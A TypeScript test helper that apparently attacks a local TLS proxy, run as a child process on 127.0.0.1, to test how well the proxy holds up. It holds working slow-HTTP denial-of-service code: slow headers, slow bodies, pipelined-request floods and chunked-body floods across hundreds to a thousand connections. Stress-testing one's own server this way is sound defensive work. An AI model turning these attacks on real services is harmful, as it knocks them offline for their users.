/**
 * An attacker in a process of its own, at an address of its own: `attacker.ts ATTACK PORT TOKEN`. Goes on until its parent
 * disconnects; tells it when as many connections as the attack has were opened. It does not verify the proxy's certificate.
 */
import { setPriority } from "node:os";
import { connect, type TLSSocket } from "node:tls";

const [name = "", port = "", token = ""] = process.argv.slice(2);
const ADDRESS = "127.0.0.66";
const AGAIN_MS = 1_000;
/** After this long a connection that was closed is opened again: sooner, this would be a flood of TLS handshakes. */
const REOPENED_MS = 5_000;

// Elsewhere it would take no processor from the others.
setPriority(10);

let opened = 0;

const HEAD = `Host: localhost\r\nAuthorization: Bearer ${token}\r\n`;
const POST = `POST /api/estimations HTTP/1.1\r\n${HEAD}Content-Type: application/json\r\n`;
const SMALL_CHUNKS = "1\r\nx\r\n".repeat(10_000);

interface Attack {
  readonly connections: number;
  /** Done with every connection, … */
  begin(socket: TLSSocket): void;
  /** … and this afterwards and then every second. */
  again(socket: TLSSocket): void;
}

const attacks: Record<string, { connections: number; begin(socket: TLSSocket): void; again(socket: TLSSocket): void }> =
  {
    "slow headers": {
      connections: 1_000,
      begin: (socket) => socket.write(`GET /api/estimations HTTP/1.1\r\n${HEAD}`),
      again: (socket) => socket.write("X-More: x\r\n"),
    },
    "slow bodies": {
      connections: 1_000,
      begin: (socket) => socket.write(`${POST}Content-Length: 1000000\r\n\r\n{`),
      again: (socket) => socket.write(" "),
    },
    "pipelined requests": {
      connections: 100,
      begin: () => {},
      again: (socket) => socket.write(`GET /api/estimations HTTP/1.1\r\n${HEAD}\r\n`.repeat(100)),
    },
    "floods of chunks": {
      connections: 100,
      begin: (socket) => socket.write(`${POST}Transfer-Encoding: chunked\r\n\r\n`),
      again: (socket) => socket.write(SMALL_CHUNKS),
    },
  };

function open(attack: Attack): void {
  const socket = connect({
    ...{ port: Number(port), host: "127.0.0.1", localAddress: ADDRESS, rejectUnauthorized: false },
    ALPNProtocols: ["http/1.1"],
  });
  let repeating: NodeJS.Timeout | undefined;
  socket.on("secureConnect", () => {
    opened += 1;
    if (opened === attack.connections) process.send?.("whole");
    attack.begin(socket);
    attack.again(socket);
    repeating = setInterval(() => {
      if (socket.writableLength === 0) attack.again(socket);
    }, AGAIN_MS);
  });
  socket.on("error", () => {}).resume();
  socket.once("close", () => {
    clearInterval(repeating);
    setTimeout(() => open(attack), REOPENED_MS);
  });
}

const attack = attacks[name];
if (!attack) throw new Error(`there is no attack ${name}`);
process.on("disconnect", () => process.exit(0));
for (let count = 0; count < attack.connections; count += 1) open(attack);
